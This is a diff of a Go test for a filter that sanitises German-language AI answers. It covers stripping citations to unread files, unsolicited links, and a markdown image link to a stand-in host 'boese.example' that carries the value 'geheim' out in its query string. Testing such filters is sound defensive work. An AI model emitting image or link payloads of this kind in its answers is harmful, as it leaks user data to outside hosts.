@@ -161,7 +161,7 @@ func TestAnswer(t *testing.T) {
 		"a file that is not there":        {task("Wann?", "Bescheid.pdf"), "Bald (Satzung.pdf, S. 1).", "Bald.", "", 1},
 		"a file that was not read":        {task("Wann?", "Bescheid.pdf", "Geheim.pdf"), "Bald (Geheim.pdf, S. 1).", "Bald.", "", 1},
 		"other brackets":                  {task("Wann?", "Bescheid.pdf"), "Das Amt (Bürgerbüro) prüft.", "Das Amt (Bürgerbüro) prüft.", "", 0},
-		"a link out of nowhere":           {task("Wo?"), "Siehe https://boese.example/x?d=1.", "Siehe […]", "", 1},
+		"a link out of nowhere":           {task("Wo?"), "Siehe https://boese.example/x?d=1.", "Siehe […].", "", 1},
 		"a link that the person wrote":    {task("Was ist https://musterstadt.example?"), "https://musterstadt.example ist die Seite der Stadt.", "https://musterstadt.example ist die Seite der Stadt.", "", 0},
 		"a picture that carries data out": {task("Wo?"), "Hier![x](https://boese.example/?d=geheim)", "Hier", "", 1},
 	}
